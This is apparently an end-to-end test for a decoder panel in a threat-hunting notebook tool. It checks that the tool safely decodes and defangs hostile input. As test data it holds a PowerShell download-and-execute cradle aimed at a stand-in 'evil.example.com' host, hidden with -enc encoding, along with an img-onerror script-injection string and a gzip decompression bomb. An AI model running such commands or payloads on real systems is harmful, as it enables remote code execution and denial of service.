import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { Hunt } from '../../src/session/index.ts';
import { accessibilityFaults, Lab } from '../kit/workbench-page.ts';

const evil = '<img src=x onerror="window.__pwned=1">';
const base64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

let hunt: Hunt;
let lab: Lab;

beforeAll(async () => {
  hunt = new Hunt();
  lab = await Lab.start({ hunt });
});

afterAll(async () => {
  await lab.close();
  await hunt.close();
});

it('lays a text open step by step, and writes what was done as cells', async () => {
  const opened = await lab.open();
  const { page, faults } = opened;
  await page.getByRole('button', { name: 'Decode', exact: true }).click();
  const bench = page.locator('decoder-bench');
  const inner = `IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ${evil}`;
  const given = `powershell -enc ${base64(inner)} # it's "C:\\a"\n\`\`\`\n${evil}`;
  await bench.locator('textarea').fill(given);
  await bench.locator('.says', { hasText: 'DownloadString' }).waitFor();
  expect(await bench.locator('.steps > li').count()).toBe(1);
  expect(await bench.locator('.says').textContent()).toContain(evil);
  await bench.locator('.parts summary').first().click();
  expect(await bench.locator('.hex').first().textContent()).toContain('49 00 45 00 58 00');
  const url = bench.locator('.indicators li', { hasText: 'hXXp://evil[.]example[.]com/a' });
  expect(await url.textContent()).toContain('hidden');
  await url.locator('input').check();
  await bench.locator('.sending', { hasText: 'Look up 1' }).waitFor();
  await expect
    .poll(() => bench.locator('.sending').textContent())
    .toMatch(/Nothing would be sent|would go to/);
  expect(await accessibilityFaults(opened)).toEqual([]);

  await bench.getByRole('combobox').selectOption('reverse');
  await bench.getByRole('button', { name: 'Do it' }).click();
  await bench.locator('.tag', { hasText: 'asked for' }).waitFor();
  await bench.getByRole('button', { name: 'Add as cell' }).click();
  const code = page.locator('hunt-cell').last();
  await expect
    .poll(() => code.locator('.editor .view-lines, .code').first().textContent())
    .toMatch(/print.Text.=/);
  await code.locator('.said', { hasText: /rows?$/ }).waitFor();

  const bomb = gzipSync(Buffer.alloc(50e6, 65)).toString('base64');
  await bench.locator('textarea').fill(bomb);
  await bench.locator('.parts summary', { hasText: 'gz' }).waitFor();
  await bench.locator('.parts summary').first().click();
  expect(await bench.locator('.parts .warn').textContent()).toContain('unpacks to more');
  await bench.getByRole('button', { name: 'Take away step 1, reverse' }).click();
  await bench.locator('textarea').fill('a'.repeat(65_536));
  await bench.getByText('Nothing is hidden in it').waitFor();
  await page.keyboard.press('Escape');
  await expect.poll(() => bench.count()).toBe(0);
  expect(await page.evaluate('window.__pwned')).toBeUndefined();
  expect(faults.join('\n')).toBe('');
});
